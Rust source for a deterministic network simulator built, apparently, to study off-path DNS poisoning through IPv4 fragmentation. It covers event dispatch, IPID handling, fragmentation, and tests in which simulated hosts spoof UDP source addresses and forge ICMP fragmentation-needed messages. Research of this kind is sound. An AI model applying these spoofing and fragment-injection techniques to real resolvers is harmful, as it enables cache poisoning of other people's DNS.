    pub fn note_trace(&mut self, kind: u16, a: u64, b: u64) {
        #[cfg(feature = "trace")]
        self.trace(obs::TraceEvent::NO_HOST, kind, a, b);
        #[cfg(not(feature = "trace"))]
        let _ = (kind, a, b);
    }

    /// The flight recorder (`trace` builds only).
    #[cfg(feature = "trace")]
    pub fn recorder(&self) -> &obs::FlightRecorder {
        &self.recorder
    }

    /// FNV digest of the recorded trace stream (`trace` builds only):
    /// deterministic simulations pin this bit for bit.
    #[cfg(feature = "trace")]
    pub fn trace_digest(&self) -> u64 {
        self.recorder.digest()
    }

    /// Caps how many events any run method may dispatch over the whole
    /// simulation. [`Simulator::run_to_completion`] errors on overrun;
    /// [`Simulator::run_until`] / [`Simulator::run_for`] stop dispatching
    /// (check [`Simulator::event_budget_exhausted`]). Guards against hosts
    /// with self-rearming timers hanging the process. Default: unlimited.
    pub fn set_event_budget(&mut self, max_events: u64) {
        self.max_events = max_events;
    }

    /// Whether the event budget has been used up.
    pub fn event_budget_exhausted(&self) -> bool {
        self.stats.events_dispatched >= self.max_events
    }

    /// Mutable access to the topology (links can change mid-simulation).
    pub fn topology_mut(&mut self) -> &mut Topology {
        &mut self.topology
    }

    /// Pre-sizes the host slab and address interner for `additional` more
    /// hosts, so bulk registration (population builders, benches) never
    /// rehashes or regrows mid-setup.
    pub fn reserve_hosts(&mut self, additional: usize) {
        self.slots.reserve(additional);
        self.addr_to_id.reserve(additional);
        self.route_cache.reserve(additional);
    }

    /// Registers a host at `addr` with the given OS profile and returns its
    /// dense [`HostId`].
    ///
    /// # Errors
    ///
    /// Returns [`SimError::DuplicateAddress`] if the address is taken.
    pub fn add_host(
        &mut self,
        addr: Ipv4Addr,
        profile: OsProfile,
        host: Box<dyn Host>,
    ) -> Result<HostId, SimError> {
        if self.addr_to_id.contains_key(&addr) {
            return Err(SimError::DuplicateAddress { addr });
        }
        let id = HostId(u32::try_from(self.slots.len()).expect("fewer than 2^32 hosts"));
        self.addr_to_id.insert(addr, id);
        self.slots.push(HostSlot { addr, host, stack: NetStack::new(profile) });
        // Seed the route cache with a self-entry: valid (the address is
        // registered) and overwritten by the first real send.
        self.route_cache.push((addr, id));
        let at = self.now;
        self.push_event(at, EventKind::Start { host: id });
        Ok(id)
    }

    /// The dense id assigned to `addr`, if a host is registered there.
    pub fn host_id(&self, addr: Ipv4Addr) -> Option<HostId> {
        self.addr_to_id.get(&addr).copied()
    }

    /// Number of registered hosts.
    pub fn host_count(&self) -> usize {
        self.slots.len()
    }

    /// Immutable, downcast access to a host (after or during a run).
    pub fn host<T: Host>(&self, addr: Ipv4Addr) -> Option<&T> {
        let id = self.host_id(addr)?;
        (self.slots[id.index()].host.as_ref() as &dyn Any).downcast_ref::<T>()
    }

    /// Mutable, downcast access to a host.
    pub fn host_mut<T: Host>(&mut self, addr: Ipv4Addr) -> Option<&mut T> {
        let id = self.host_id(addr)?;
        (self.slots[id.index()].host.as_mut() as &mut dyn Any).downcast_mut::<T>()
    }

    /// Access a host's network stack (introspection in tests).
    pub fn stack(&self, addr: Ipv4Addr) -> Option<&NetStack> {
        let id = self.host_id(addr)?;
        Some(&self.slots[id.index()].stack)
    }

    /// Runs until the event queue is exhausted, `deadline` is reached, or
    /// the event budget runs out; `now` afterwards equals `deadline` even
    /// in the budget-exhausted case, so time-polling loops (step to
    /// `deadline`, check a predicate, repeat) still terminate. Events left
    /// queued by an exhausted budget dispatch on a later run (after
    /// raising the budget) without moving time backwards.
    pub fn run_until(&mut self, deadline: SimTime) {
        self.drain_until(deadline);
        if self.now < deadline {
            self.now = deadline;
        }
    }

    /// Dispatches queued events up to `deadline` within the event budget,
    /// leaving `now` at the last dispatched event.
    ///
    /// Batched mode drains each same-instant wheel run into a scratch ring
    /// in one motion and dispatches it front to back, so the loop crosses
    /// the wheel once per *instant* instead of once per event and
    /// consecutive events for the same host hit a slab slot that is still
    /// cache-resident. The dispatch order is identical to the reference
    /// loop below: a run is complete when drained (every queued event at
    /// that instant is in the wheel's ready run — see
    /// [`TimingWheel::pop_run_into`]), and anything a handler schedules
    /// carries a later `(at, seq)` key, so it lands after the run.
    fn drain_until(&mut self, deadline: SimTime) {
        if !self.batched {
            // Reference loop: one wheel pop per event. The differential
            // suite pins batched dispatch to this order bit for bit.
            while let Some(at) = self.queue.peek() {
                if at > deadline || self.stats.events_dispatched >= self.max_events {
                    break;
                }
                let (at, kind) = self.queue.pop().expect("peeked event exists");
                self.now = self.now.max(at);
                self.dispatch(kind);
            }
            return;
        }
        loop {
            let remaining = self.max_events.saturating_sub(self.stats.events_dispatched);
            if remaining == 0 {
                break;
            }
            let limit = usize::try_from(remaining).unwrap_or(usize::MAX);
            let mut batch = std::mem::take(&mut self.batch);
            debug_assert!(batch.is_empty());
            let run_at = self.queue.pop_run_into(deadline, limit, &mut batch);
            let Some(at) = run_at else {
                self.batch = batch;
                break;
            };
            self.now = self.now.max(at);
            self.batch_pending = batch.len() as u64;
            for kind in batch.drain(..) {
                self.batch_pending -= 1;
                self.dispatch(kind);
            }
            self.batch = batch;
        }
    }

    /// Selects batched (default) or one-event-at-a-time dispatch. Both
    /// produce bit-identical event order, stats, and RNG consumption; the
    /// reference loop exists so tests can prove exactly that.
    pub fn set_batched_dispatch(&mut self, batched: bool) {
        self.batched = batched;
    }

    /// Runs for a span of simulated time.
    pub fn run_for(&mut self, span: SimDuration) {
        let deadline = self.now + span;
        self.run_until(deadline);
    }

    /// Processes every queued event regardless of time. `now` rests at the
    /// last dispatched event (it does not jump to [`SimTime::MAX`]), so a
    /// budget-exhausted simulation can be resumed with a raised budget and
    /// an intact clock.
    ///
    /// # Errors
    ///
    /// Returns [`SimError::EventBudgetExceeded`] if a budget set via
    /// [`Simulator::set_event_budget`] runs out with events still queued —
    /// the guard that keeps a host with a self-rearming timer from hanging
    /// the process. Without a budget the queue must be finite.
    pub fn run_to_completion(&mut self) -> Result<(), SimError> {
        self.drain_until(SimTime::MAX);
        if !self.queue.is_empty() && self.event_budget_exhausted() {
            return Err(SimError::EventBudgetExceeded { max_events: self.max_events });
        }
        Ok(())
    }

    fn push_event(&mut self, at: SimTime, kind: EventKind) {
        self.queue.schedule(at, kind);
        // Count events drained into the batch ring but not yet dispatched,
        // so the high-water mark is identical in both dispatch modes.
        let depth = self.queue.len() as u64 + self.batch_pending;
        self.stats.peak_queue_depth = self.stats.peak_queue_depth.max(depth);
    }

    fn dispatch(&mut self, kind: EventKind) {
        self.stats.events_dispatched += 1;
        match kind {
            EventKind::Start { host } => self.call_host(host, HostInput::Start),
            EventKind::Timer { host, token } => {
                self.stats.timers_fired += 1;
                self.call_host(host, HostInput::Timer(token));
            }
            EventKind::Arrival { dst, pkt } => {
                // Reclaim the event's box first: the packet rides on as a
                // plain value (move-delivery), the box serves the next send.
                let pkt = self.boxes.unbox_pkt(pkt);
                // Transmit-time resolution covers the common case; a packet
                // in flight towards a host registered after transmission
                // resolves here instead.
                let Some(id) = dst.or_else(|| self.host_id(pkt.dst)) else {
                    self.stats.packets_unrouted += 1;
                    return;
                };
                self.stats.packets_delivered += 1;
                // Raw tap first: attacker-style hosts observe headers.
                // `Ctx` split-borrows the scratch buffers in place; only
                // the action vec (three words) moves out for the apply
                // step, which needs `&mut self` again.
                let consumed = {
                    let slot = &mut self.slots[id.index()];
                    let mut ctx = Ctx {
                        now: self.now,
                        addr: slot.addr,
                        rng: &mut self.rng,
                        actions: &mut self.scratch,
                        boxes: &mut self.boxes,
                    };
                    slot.host.on_raw_packet(&mut ctx, &pkt)
                };
                if !self.scratch.is_empty() {
                    let mut actions = std::mem::take(&mut self.scratch);
                    self.apply_actions(id, &mut actions);
                    self.scratch = actions;
                }
                if consumed {
                    return;
                }
                // The stack takes ownership of the packet from here
                // (move-delivery: no clone between wire and host).
                let non_final = pkt.is_fragment() && pkt.more_fragments;
                #[cfg(feature = "trace")]
                let frag_info =
                    pkt.is_fragment().then(|| (u64::from(pkt.id), u64::from(pkt.frag_offset)));
                #[cfg(feature = "trace")]
                let expired_before = self.stats.drops.defrag_expired;
                let outcome = {
                    let slot = &mut self.slots[id.index()];
                    slot.stack.receive_counted(self.now, pkt, &mut self.stats.drops)
                };
                #[cfg(feature = "trace")]
                {
                    if let Some((ipid, offset)) = frag_info {
                        self.trace(id.0, obs::kind::FRAG_RX, ipid, offset);
                    }
                    let expired = self.stats.drops.defrag_expired - expired_before;
                    if expired > 0 {
                        self.trace(id.0, obs::kind::FRAG_EXPIRED, expired, 0);
                    }
                    match &outcome {
                        ReceiveOutcome::Delivered { output, reassembled } => {
                            if *reassembled {
                                let len = match output {
                                    StackOutput::Udp(d) => d.payload.len() as u64,
                                    StackOutput::Icmp { .. } => 0,
                                };
                                let ipid = frag_info.map_or(0, |(ipid, _)| ipid);
                                self.trace(id.0, obs::kind::FRAG_REASSEMBLED, ipid, len);
                            }
                            if let StackOutput::Udp(d) = output {
                                let port = u64::from(d.dst_port);
                                self.trace(id.0, obs::kind::UDP_VERIFY_OK, port, 0);
                            }
                        }
                        ReceiveOutcome::Dropped(reason) => {
                            let kind = if reason.is_verify() {
                                obs::kind::UDP_VERIFY_FAIL
                            } else {
                                obs::kind::DROP
                            };
                            self.trace(id.0, kind, u64::from(reason.code()), 0);
                        }
                        ReceiveOutcome::Pending => {}
                    }
                }
                match outcome {
                    ReceiveOutcome::Delivered { output: StackOutput::Udp(dgram), .. } => {
                        self.stats.datagrams_delivered += 1;
                        self.call_host(id, HostInput::Datagram(dgram));
                    }
                    ReceiveOutcome::Delivered {
                        output: StackOutput::Icmp { from, msg }, ..
                    } => {
                        self.call_host(id, HostInput::Icmp(from, msg));
                    }
                    ReceiveOutcome::Pending | ReceiveOutcome::Dropped(_) => {
                        // A fragment that parked in the cache awaiting its
                        // siblings is not a lost datagram; anything else
                        // that produced no output is.
                        if !non_final {
                            self.stats.datagrams_dropped += 1;
                        }
                    }
                }
            }
        }
    }

    fn call_host(&mut self, id: HostId, input: HostInput) {
        // Split-borrow, not `mem::take`: the host callback runs against
        // the scratch buffers in place, and only the action vec (three
        // words) is moved out for the apply step afterwards.
        {
            let slot = &mut self.slots[id.index()];
            let mut ctx = Ctx {
                now: self.now,
                addr: slot.addr,
                rng: &mut self.rng,
                actions: &mut self.scratch,
                boxes: &mut self.boxes,
            };
            match input {
                HostInput::Start => slot.host.on_start(&mut ctx),
                HostInput::Datagram(d) => slot.host.on_datagram(&mut ctx, &d),
                HostInput::Icmp(from, msg) => slot.host.on_icmp(&mut ctx, from, &msg),
                HostInput::Timer(token) => slot.host.on_timer(&mut ctx, token),
            }
        }
        if !self.scratch.is_empty() {
            let mut actions = std::mem::take(&mut self.scratch);
            self.apply_actions(id, &mut actions);
            self.scratch = actions;
        }
    }

    /// Drains `actions`, leaving the buffer empty (ready for reuse).
    fn apply_actions(&mut self, origin: HostId, actions: &mut Vec<Action>) {
        let origin_addr = self.slots[origin.index()].addr;
        for action in actions.drain(..) {
            match action {
                Action::SendUdp { dst, dgram } => {
                    let mut pkts = std::mem::take(&mut self.pkt_scratch);
                    {
                        // IPID assignment (inside `send_udp_into`) may evict
                        // a per-destination counter; fold the delta into the
                        // aggregate here so stats snapshots never re-sum the
                        // slab (O(1) in the host count).
                        let slot = &mut self.slots[origin.index()];
                        let evictions_before = slot.stack.ipid_evictions();
                        slot.stack.send_udp_into(
                            self.now,
                            origin_addr,
                            dst,
                            &dgram,
                            &mut self.rng,
                            &mut pkts,
                        );
                        self.stats.ipid_evictions += slot.stack.ipid_evictions() - evictions_before;
                    }
                    // The datagram (and its payload reference) drops here;
                    // the box goes back to the pool for the next send.
                    drop(self.boxes.unbox_dgram(dgram));
                    for pkt in pkts.drain(..) {
                        self.transmit(origin, origin_addr, pkt);
                    }
                    self.pkt_scratch = pkts;
                }
                Action::SendIcmp { dst, msg } => {
                    let id = {
                        let slot = &mut self.slots[origin.index()];
                        let evictions_before = slot.stack.ipid_evictions();
                        let id = slot.stack.next_ipid(dst, &mut self.rng);
                        self.stats.ipid_evictions += slot.stack.ipid_evictions() - evictions_before;
                        id
                    };
                    let pkt = Ipv4Packet::icmp(origin_addr, dst, id, msg.encode());
                    self.transmit(origin, origin_addr, pkt);
                }
                Action::SendRaw(pkt) => {
                    let pkt = self.boxes.unbox_pkt(pkt);
                    self.transmit(origin, origin_addr, pkt);
                }
                Action::SetTimer { at, token } => {
                    self.push_event(at, EventKind::Timer { host: origin, token });
                }
            }
        }
    }

    /// Puts a packet on the wire from the physical location `origin_addr`
    /// (the host `origin`'s interface).
    fn transmit(&mut self, origin: HostId, origin_addr: Ipv4Addr, pkt: Ipv4Packet) {
        self.stats.packets_sent += 1;
        let link = self.topology.link(origin_addr, pkt.dst);
        match link.sample(&mut self.rng) {
            Some(delay) => {
                let at = self.now + delay;
                // Destination resolution goes through the sender's
                // last-destination cache; on a miss the full lookup runs
                // and (if it resolves) refills the entry. An unregistered
                // destination is never cached — it may be registered while
                // the packet is in flight, and arrival re-resolves `None`.
                let cached = &mut self.route_cache[origin.index()];
                let dst = if cached.0 == pkt.dst {
                    Some(cached.1)
                } else {
                    let resolved = self.addr_to_id.get(&pkt.dst).copied();
                    if let Some(id) = resolved {
                        *cached = (pkt.dst, id);
                    }
                    resolved
                };
                let pkt = self.boxes.pkt(pkt);
                self.push_event(at, EventKind::Arrival { dst, pkt });
            }
            None => self.stats.packets_lost += 1,
        }
    }
}

enum HostInput {
    Start,
    Datagram(Datagram),
    Icmp(Ipv4Addr, IcmpMessage),
    Timer(TimerToken),
}

impl std::fmt::Debug for Simulator {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Simulator")
            .field("now", &self.now)
            .field("hosts", &self.slots.len())
            .field("queued_events", &self.queue.len())
            .field("stats", &self.stats())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::link::LinkSpec;

    const A: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);
    const B: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 2);

    /// Sends one datagram to a peer on start; records what it receives.
    struct Pinger {
        peer: Ipv4Addr,
        received: Vec<Datagram>,
    }

    impl Host for Pinger {
        fn on_start(&mut self, ctx: &mut Ctx<'_>) {
            ctx.send_udp(self.peer, 1000, 2000, Bytes::from_static(b"ping"));
        }
        fn on_datagram(&mut self, _ctx: &mut Ctx<'_>, d: &Datagram) {
            self.received.push(d.clone());
        }
    }

    struct Echo {
        received: usize,
    }

    impl Host for Echo {
        fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
            self.received += 1;
            ctx.send_udp(d.src, d.dst_port, d.src_port, d.payload.clone());
        }
    }

    fn two_host_sim() -> Simulator {
        let mut sim = Simulator::with_topology(
            1,
            Topology::uniform(LinkSpec::fixed(SimDuration::from_millis(10))),
        );
        sim.add_host(A, OsProfile::linux(), Box::new(Pinger { peer: B, received: vec![] }))
            .unwrap();
        sim.add_host(B, OsProfile::linux(), Box::new(Echo { received: 0 })).unwrap();
        sim
    }

    #[test]
    fn ping_pong_round_trip() {
        let mut sim = two_host_sim();
        sim.run_for(SimDuration::from_secs(1));
        let pinger: &Pinger = sim.host(A).unwrap();
        assert_eq!(pinger.received.len(), 1);
        assert_eq!(pinger.received[0].payload, Bytes::from_static(b"ping"));
        assert_eq!(pinger.received[0].src, B);
        let echo: &Echo = sim.host(B).unwrap();
        assert_eq!(echo.received, 1);
        assert_eq!(sim.stats().datagrams_delivered, 2);
    }

    #[test]
    fn latency_is_respected() {
        let mut sim = two_host_sim();
        sim.run_for(SimDuration::from_millis(9));
        let echo: &Echo = sim.host(B).unwrap();
        assert_eq!(echo.received, 0, "packet needs 10ms to arrive");
        sim.run_for(SimDuration::from_millis(2));
        let echo: &Echo = sim.host(B).unwrap();
        assert_eq!(echo.received, 1);
    }

    #[test]
    fn duplicate_address_rejected() {
        let mut sim = Simulator::new(1);
        sim.add_host(A, OsProfile::linux(), Box::new(Echo { received: 0 })).unwrap();
        let err = sim.add_host(A, OsProfile::linux(), Box::new(Echo { received: 0 }));
        assert!(matches!(err, Err(SimError::DuplicateAddress { .. })));
    }

    #[test]
    fn host_ids_are_dense_and_stable() {
        let mut sim = Simulator::new(1);
        let a = sim.add_host(A, OsProfile::linux(), Box::new(Echo { received: 0 })).unwrap();
        let b = sim.add_host(B, OsProfile::linux(), Box::new(Echo { received: 0 })).unwrap();
        assert_eq!(a.index(), 0);
        assert_eq!(b.index(), 1);
        assert_eq!(sim.host_id(A), Some(a));
        assert_eq!(sim.host_id(B), Some(b));
        assert_eq!(sim.host_id("192.0.2.1".parse().unwrap()), None);
        assert_eq!(sim.host_count(), 2);
    }

    #[test]
    fn unrouted_packets_are_counted() {
        struct Blaster;
        impl Host for Blaster {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.send_udp("203.0.113.99".parse().unwrap(), 1, 2, Bytes::from_static(b"x"));
            }
        }
        let mut sim = Simulator::new(3);
        sim.add_host(A, OsProfile::linux(), Box::new(Blaster)).unwrap();
        sim.run_for(SimDuration::from_secs(1));
        assert_eq!(sim.stats().packets_unrouted, 1);
    }

    #[test]
    fn packet_in_flight_reaches_late_registered_host() {
        // A packet transmitted before its destination exists resolves at
        // delivery time (transmit-time HostId resolution must not drop it).
        struct Blaster {
            peer: Ipv4Addr,
        }
        impl Host for Blaster {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.send_udp(self.peer, 1, 2, Bytes::from_static(b"early"));
            }
        }
        let mut sim = Simulator::with_topology(
            9,
            Topology::uniform(LinkSpec::fixed(SimDuration::from_millis(50))),
        );
        sim.add_host(A, OsProfile::linux(), Box::new(Blaster { peer: B })).unwrap();
        // Launch the packet, then register B while it is still in flight.
        sim.run_for(SimDuration::from_millis(10));
        sim.add_host(B, OsProfile::linux(), Box::new(Echo { received: 0 })).unwrap();
        sim.run_for(SimDuration::from_secs(1));
        let echo: &Echo = sim.host(B).unwrap();
        assert_eq!(echo.received, 1, "late host must still receive the packet");
        assert_eq!(sim.stats().packets_unrouted, 0);
    }

    #[test]
    fn large_datagram_fragments_and_reassembles_through_sim() {
        struct BigSender {
            peer: Ipv4Addr,
        }
        impl Host for BigSender {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.send_udp(self.peer, 1, 2, Bytes::from(vec![0x5A; 4000]));
            }
        }
        struct Sink {
            got: Option<usize>,
        }
        impl Host for Sink {
            fn on_datagram(&mut self, _ctx: &mut Ctx<'_>, d: &Datagram) {
                self.got = Some(d.payload.len());
            }
        }
        let mut sim = Simulator::new(4);
        sim.add_host(A, OsProfile::linux(), Box::new(BigSender { peer: B })).unwrap();
        sim.add_host(B, OsProfile::linux(), Box::new(Sink { got: None })).unwrap();
        sim.run_for(SimDuration::from_secs(1));
        // 4000 bytes over a 1500 MTU: 3 fragments on the wire.
        assert!(sim.stats().packets_sent >= 3);
        let sink: &Sink = sim.host(B).unwrap();
        assert_eq!(sink.got, Some(4000));
    }

    #[test]
    fn icmp_frag_needed_shrinks_subsequent_sends() {
        // B forges nothing here; this tests the legitimate PMTUD path:
        // A sends a big datagram, we inject frag-needed, A re-sends smaller.
        struct Repeater {
            peer: Ipv4Addr,
        }
        impl Host for Repeater {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.set_timer(SimDuration::from_secs(1), 0);
                ctx.send_udp(self.peer, 1, 2, Bytes::from(vec![1; 1400]));
            }
            fn on_timer(&mut self, ctx: &mut Ctx<'_>, _t: TimerToken) {
                ctx.send_udp(self.peer, 1, 2, Bytes::from(vec![2; 1400]));
            }
        }
        struct IcmpSource {
            victim: Ipv4Addr,
            peer_of_victim: Ipv4Addr,
        }
        impl Host for IcmpSource {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                // Embedded original: victim -> peer.
                let original = Ipv4Packet::udp(
                    self.victim,
                    self.peer_of_victim,
                    0,
                    Bytes::from_static(&[0u8; 8]),
                )
                .encode()
                .unwrap();
                ctx.send_icmp(self.victim, IcmpMessage::FragmentationNeeded { mtu: 576, original });
            }
        }
        struct Sink {
            datagrams: usize,
        }
        impl Host for Sink {
            fn on_datagram(&mut self, _ctx: &mut Ctx<'_>, _d: &Datagram) {
                self.datagrams += 1;
            }
        }
        let c: Ipv4Addr = "10.0.0.3".parse().unwrap();
        let mut sim = Simulator::with_topology(
            5,
            Topology::uniform(LinkSpec::fixed(SimDuration::from_millis(1))),
        );
        sim.add_host(A, OsProfile::linux(), Box::new(Repeater { peer: B })).unwrap();
        sim.add_host(B, OsProfile::linux(), Box::new(Sink { datagrams: 0 })).unwrap();
        sim.add_host(c, OsProfile::linux(), Box::new(IcmpSource { victim: A, peer_of_victim: B }))
            .unwrap();
        sim.run_for(SimDuration::from_secs(3));
        let sink: &Sink = sim.host(B).unwrap();
        assert_eq!(sink.datagrams, 2, "both datagrams must arrive");
        // First send: 1 packet; second send (post-ICMP, MTU 576): 3 fragments.
        // Plus 1 ICMP packet = at least 5 on the wire.
        assert!(sim.stats().packets_sent >= 5, "stats: {:?}", sim.stats());
    }

    #[test]
    fn spoofed_udp_carries_valid_checksum_for_spoofed_src() {
        struct Spoofer {
            victim_src: Ipv4Addr,
            dst: Ipv4Addr,
        }
        impl Host for Spoofer {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.send_udp_spoofed(
                    self.victim_src,
                    self.dst,
                    123,
                    123,
                    Bytes::from_static(b"spoof"),
                );
            }
        }
        struct Sink {
            from: Option<Ipv4Addr>,
        }
        impl Host for Sink {
            fn on_datagram(&mut self, _ctx: &mut Ctx<'_>, d: &Datagram) {
                self.from = Some(d.src);
            }
        }
        let attacker: Ipv4Addr = "203.0.113.66".parse().unwrap();
        let mut sim = Simulator::new(6);
        sim.add_host(attacker, OsProfile::linux(), Box::new(Spoofer { victim_src: A, dst: B }))
            .unwrap();
        sim.add_host(B, OsProfile::linux(), Box::new(Sink { from: None })).unwrap();
        sim.run_for(SimDuration::from_secs(1));
        let sink: &Sink = sim.host(B).unwrap();
        assert_eq!(sink.from, Some(A), "sink must see the spoofed source");
    }

    #[test]
    fn determinism_same_seed_same_stats() {
        let run = |seed| {
            let mut sim = Simulator::new(seed);
            sim.topology_mut().set_link_bidir(A, B, LinkSpec::wan().with_loss(0.2));
            sim.add_host(A, OsProfile::linux(), Box::new(Pinger { peer: B, received: vec![] }))
                .unwrap();
            sim.add_host(B, OsProfile::linux(), Box::new(Echo { received: 0 })).unwrap();
            sim.run_for(SimDuration::from_secs(5));
            sim.stats()
        };
        assert_eq!(run(99), run(99));
    }

    /// Re-arms a timer on every firing: an infinite event source.
    struct Metronome;
    impl Host for Metronome {
        fn on_start(&mut self, ctx: &mut Ctx<'_>) {
            ctx.set_timer(SimDuration::from_millis(1), 0);
        }
        fn on_timer(&mut self, ctx: &mut Ctx<'_>, _t: TimerToken) {
            ctx.set_timer(SimDuration::from_millis(1), 0);
        }
    }

    #[test]
    fn event_budget_stops_self_rearming_timer() {
        let mut sim = Simulator::new(8);
        sim.add_host(A, OsProfile::linux(), Box::new(Metronome)).unwrap();
        sim.set_event_budget(1000);
        let err = sim.run_to_completion();
        assert!(matches!(err, Err(SimError::EventBudgetExceeded { max_events: 1000 })), "{err:?}");
        assert!(sim.event_budget_exhausted());
        assert_eq!(sim.stats().events_dispatched, 1000);
        // The clock rests at the last dispatched event (999 timer laps of
        // 1 ms after the start event), not at SimTime::MAX, so raising the
        // budget resumes with an intact clock.
        assert_eq!(sim.now(), SimTime::ZERO + SimDuration::from_millis(999));
        sim.set_event_budget(1500);
        let err = sim.run_to_completion();
        assert!(matches!(err, Err(SimError::EventBudgetExceeded { max_events: 1500 })));
        assert_eq!(sim.stats().events_dispatched, 1500);
        assert_eq!(sim.now(), SimTime::ZERO + SimDuration::from_millis(1499));
    }

    #[test]
    fn event_budget_allows_finite_queues() {
        let mut sim = two_host_sim();
        sim.set_event_budget(1_000_000);
        sim.run_to_completion().expect("finite queue drains under budget");
        let echo: &Echo = sim.host(B).unwrap();
        assert_eq!(echo.received, 1);
    }

    #[test]
    fn run_for_stops_at_exhausted_budget_without_error() {
        let mut sim = Simulator::new(8);
        sim.add_host(A, OsProfile::linux(), Box::new(Metronome)).unwrap();
        sim.set_event_budget(10);
        sim.run_for(SimDuration::from_secs(3600));
        assert_eq!(sim.stats().events_dispatched, 10);
        assert!(sim.event_budget_exhausted());
        // Time still advances to the deadline, so callers that poll a
        // predicate while stepping `now` towards their own deadline
        // (Scenario::run_until_condition) terminate rather than spin.
        assert_eq!(sim.now(), SimTime::ZERO + SimDuration::from_secs(3600));
        sim.run_for(SimDuration::from_secs(1));
        assert_eq!(sim.now(), SimTime::ZERO + SimDuration::from_secs(3601));
    }

    #[test]
    fn ipid_per_dst_cache_is_bounded_with_lru_eviction() {
        let mut profile = OsProfile::linux();
        assert!(matches!(profile.ipid, IpidMode::PerDestination { .. }));
        profile.ipid_cache_cap = 8;
        let mut stack = NetStack::new(profile);
        let mut rng = SmallRng::seed_from_u64(1);
        // Spray 100 distinct destinations: the table must stay at the cap.
        for i in 0..100u32 {
            let dst = Ipv4Addr::from(0x0A00_0000 + i);
            stack.next_ipid(dst, &mut rng);
            assert!(stack.ipid_tracked_destinations() <= 8);
        }
        assert_eq!(stack.ipid_tracked_destinations(), 8);
        assert_eq!(stack.ipid_evictions(), 92);
        // LRU, not FIFO: keep destination 0 warm while spraying, and its
        // counter must survive (still incrementing from where it left off).
        let mut profile = OsProfile::linux();
        profile.ipid_cache_cap = 4;
        let mut stack = NetStack::new(profile);
        let warm = Ipv4Addr::from(0x0A00_0000u32);
        let first = stack.next_ipid(warm, &mut rng);
        for i in 1..50u32 {
            stack.next_ipid(Ipv4Addr::from(0x0A00_0000 + i), &mut rng);
            let again = stack.next_ipid(warm, &mut rng);
            assert_eq!(
                again,
                first.wrapping_add(i as u16),
                "warm destination must never be evicted"
            );
        }
    }

    #[test]
    fn hot_enums_stay_within_32_bytes() {
        // Also enforced at compile time by the static asserts next to the
        // enum definitions; this test reports the actual numbers.
        let action = std::mem::size_of::<Action>();
        let event = std::mem::size_of::<EventKind>();
        assert!(action <= 32, "Action is {action} bytes");
        assert!(event <= 32, "EventKind is {event} bytes");
    }

    /// Steady-state traffic must be served by the buffer pool: after the
    /// warmup sends, (nearly) every backing-store acquisition is an inline
    /// or freelist hit.
    #[test]
    fn steady_state_sends_hit_the_buffer_pool() {
        struct Ticker {
            peer: Ipv4Addr,
        }
        impl Host for Ticker {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.set_timer(SimDuration::from_millis(1), 0);
            }
            fn on_timer(&mut self, ctx: &mut Ctx<'_>, _t: TimerToken) {
                // A small payload (inline) and a large one (freelist).
                ctx.send_udp(self.peer, 1, 2, Bytes::from_static(b"tick"));
                let mut big = bytes::BytesMut::with_capacity(900);
                big.resize(900, 0x5A);
                ctx.send_udp(self.peer, 3, 4, big.freeze());
                ctx.set_timer(SimDuration::from_millis(1), 0);
            }
        }
        let mut sim = Simulator::with_topology(
            21,
            Topology::uniform(LinkSpec::fixed(SimDuration::from_millis(1))),
        );
        sim.add_host(A, OsProfile::linux(), Box::new(Ticker { peer: B })).unwrap();
        sim.add_host(B, OsProfile::linux(), Box::new(Echo { received: 0 })).unwrap();
        sim.run_for(SimDuration::from_secs(2));
        let stats = sim.stats();
        assert!(stats.datagrams_delivered > 1000, "traffic flowed: {stats:?}");
        let served = stats.pool_hits + stats.pool_misses;
        let hit_rate = stats.pool_hits as f64 / served as f64;
        assert!(
            hit_rate >= 0.99,
            "steady state must be allocation-free: {} hits / {} misses",
            stats.pool_hits,
            stats.pool_misses
        );
    }

    #[test]
    fn ipid_evictions_surface_in_sim_stats() {
        struct Sprayer;
        impl Host for Sprayer {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                for i in 0..20u32 {
                    ctx.send_udp(Ipv4Addr::from(0xC633_6400 + i), 1, 2, Bytes::from_static(b"x"));
                }
            }
        }
        let mut profile = OsProfile::linux();
        profile.ipid_cache_cap = 4;
        let mut sim = Simulator::new(11);
        sim.add_host(A, profile, Box::new(Sprayer)).unwrap();
        sim.run_for(SimDuration::from_secs(1));
        assert_eq!(sim.stats().ipid_evictions, 16, "20 destinations past a cap of 4");
    }
}
