//! Byte-accurate IPv4 packets (RFC 791, options-free headers).
//!
//! Fragmentation-based DNS poisoning manipulates real IPv4 header fields —
//! the identification (IPID), the `MF` flag and the fragment offset — so
//! packets are modelled at wire level and round-trip through real bytes.
// simlint: hot-path — encode/decode and by-value packet moves run per
// packet; payloads must stay zero-copy `Bytes` slices.

use core::fmt;
use std::net::Ipv4Addr;

use bytes::{BufMut, Bytes, BytesMut};

use crate::checksum;
use crate::error::WireError;

/// IP protocol number for ICMP.
pub const PROTO_ICMP: u8 = 1;
/// IP protocol number for UDP.
pub const PROTO_UDP: u8 = 17;

/// Length of the options-free IPv4 header this crate emits.
pub const IPV4_HEADER_LEN: usize = 20;

/// The minimum MTU every IPv4 link must support (RFC 791). The attack of
/// Malhotra et al. required fragmenting NTP responses to this size; the
/// DSN'20 paper instead fragments larger DNS responses.
pub const MIN_IPV4_MTU: u16 = 68;

/// An IPv4 packet (or fragment). `payload` holds the bytes after the
/// 20-byte header; for fragments it is the fragment's slice of the original
/// datagram's payload.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Ipv4Packet {
    /// Source address. Off-path attackers routinely spoof this.
    pub src: Ipv4Addr,
    /// Destination address.
    pub dst: Ipv4Addr,
    /// Identification field shared by all fragments of one datagram.
    pub id: u16,
    /// Time to live.
    pub ttl: u8,
    /// Transport protocol ([`PROTO_UDP`] or [`PROTO_ICMP`]).
